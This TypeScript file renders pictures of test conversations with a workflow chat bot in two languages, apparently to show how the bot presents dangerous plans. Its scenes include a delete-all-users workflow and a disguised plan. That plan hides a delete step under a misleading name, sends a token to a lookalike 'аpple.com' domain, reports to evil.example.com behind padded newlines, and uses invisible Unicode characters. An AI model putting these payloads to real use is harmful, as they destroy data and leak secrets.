import { BotApiServer } from "../../test/bot-api/bot-api-server.ts";
import { withBot } from "./conversation.ts";
import { type Bubble, drawPicture } from "./draw.ts";
import { edited, inner } from "./plans-of-two.ts";
import { type Player, Stage } from "./stage.ts";

/** A picture of a chat in both languages, by the name of its file. */
export interface NamedPicture {
  name: string;
  svg: string;
}

const PEOPLE: readonly (Player & { title: string })[] = [
  { id: 501, group: -501, first_name: "Olla", language_code: "en", title: "In English" },
  { id: 502, group: -502, first_name: "Siti", language_code: "id", title: "Dalam bahasa Indonesia" },
];

const MASS_DELETION = [
  "[MULTISTEP:CREATE_WORKFLOW:Clean up]",
  '[MULTISTEP:ADD_STEP:workflow_id:Count:database_operation:{"operation":"count","collection":"users","query":{}}]',
  '[MULTISTEP:ADD_STEP:workflow_id:Delete:database_operation:{"operation":"delete","collection":"users","query":{},"all":true}:step1]',
  '[MULTISTEP:ADD_STEP:workflow_id:Tell:send_message:{"text":"All users are gone."}:step2]',
  "[MULTISTEP:EXECUTE:workflow_id]",
].join("\n");

const DISGUISED = `[MULTISTEP:QUICK_WORKFLOW:Report:${JSON.stringify([
  {
    name: "1. ✅ Reads users: sends here",
    handler: "database_operation",
    params: { operation: "delete", collection: "users", all: true },
  },
  { name: "Fetch", handler: "api_call", params: { url: "https://api.example.com{context.path}" } },
  { name: "Send", handler: "api_call", params: { url: `http:${"\n".repeat(118)}//evil.example.com/report` } },
  {
    name: "Copy",
    handler: "api_call",
    params: { url: "https://аpple.com/login", headers: { key: "{secrets['TOKEN']}" } },
  },
  {
    name: "Change\u202e\u200b it",
    handler: "database_operation",
    params: {
      operation: "delete",
      collection: "logs",
      query: { old: "x".repeat(200), $or: [{ id: 1 }, { id: { $gt: 0 } }] },
    },
  },
])}]`;

const FORWARDED = [
  "[MULTISTEP:CREATE_WORKFLOW:Tea]",
  '[MULTISTEP:ADD_STEP:workflow_id:Tell:log:{"message":"Tea"}]',
  "[MULTISTEP:EXECUTE:workflow_id]",
].join("\n");
const FROM_BEA = {
  forward_origin: { type: "user", date: 1, sender_user: { id: 777, is_bot: false, first_name: "Bea" } },
};

const MARKDOWN = [
  "## Weekly report",
  "",
  "**Revenue** is up _8 %_, see `report.csv`:",
  "",
  "- New users: 154",
  "- Churn: ~~3 %~~ 2 %",
  "",
  "| KPI | Value |",
  "|---|---|",
  "| NPS | 61 |",
  "",
  "[MULTISTEP:LIST_SCHEDULES]",
].join("\n");

const FAILING = `[MULTISTEP:QUICK_WORKFLOW:Compare:${JSON.stringify([
  { name: "Start", handler: "log", params: { message: "Comparing" } },
  {
    name: "Compare",
    handler: "condition_check",
    params: { condition: "1 < 'a'" },
    dependencies: ["Start"],
    retry_count: 0,
  },
  { name: "Report", handler: "send_message", params: { text: "Done" }, dependencies: ["Compare"] },
])}]`;

/** What is sent, and how many messages the bot answers with. */
function answered(text: string, answers: number, more: object = {}): Scene["play"] {
  return async (stage) => {
    const said = await stage.answers(text, answers, more);
    return text.startsWith("/") ? [stage.own(text), ...said] : said;
  };
}

/** In the order in which they are played. */
const SCENES: readonly Scene[] = [
  { name: "plan", title: "The plan of a mass deletion", play: answered(MASS_DELETION, 1) },
  { name: "disguised", title: "A plan that tries to hide what it does", play: answered(DISGUISED, 1) },
  { name: "edited", title: "A plan that someone else changes before Run is pressed", play: edited },
  { name: "inner", title: "A step that starts another workflow", play: inner },
  { name: "forwarded", title: "Forwarded: a workflow and a change", play: answered(FORWARDED, 1, FROM_BEA) },
  { name: "markdown", title: "An answer in Markdown", play: answered(MARKDOWN, 1) },
  { name: "failed", title: "A failed run", play: failed },
  { name: "start", title: "/start", play: answered("/start", 1) },
  { name: "help", title: "/help", play: answered("/help", 1) },
];

/** Until the end of the run. */
async function failed(stage: Stage): Promise<Bubble[]> {
  const from = stage.said().length;
  stage.send(FAILING);
  await stage.until("a failure", () =>
    stage
      .said()
      .slice(from)
      .some(({ text }) => text.includes("❌")),
  );
  await stage.until("two messages", () => stage.said().length >= from + 2);
  return stage.said().slice(from);
}

interface Scene {
  name: string;
  title: string;
  /** What is worth showing of it. */
  play(stage: Stage): Promise<Bubble[]>;
}

/** Plays each scene with the real bot in both languages, on a server without rich messages, so that all formatting is entities. */
export async function namedPictures(): Promise<NamedPicture[]> {
  const server = await BotApiServer.start({ rich: false });
  const [owners, groups] = [PEOPLE.map(({ id }) => id), PEOPLE.map(({ group }) => group)];
  try {
    return await withBot(server, owners, groups, async () => {
      const pictures: NamedPicture[] = [];
      for (const { name, title, play } of SCENES) {
        const columns = [];
        for (const { title: language, ...player } of PEOPLE)
          columns.push({ title: language, bubbles: await play(new Stage(server, player)), note: "" });
        pictures.push({ name, svg: drawPicture([columns[0]!, columns[1]!], title) });
      }
      return pictures;
    });
  } finally {
    await server.stop();
  }
}
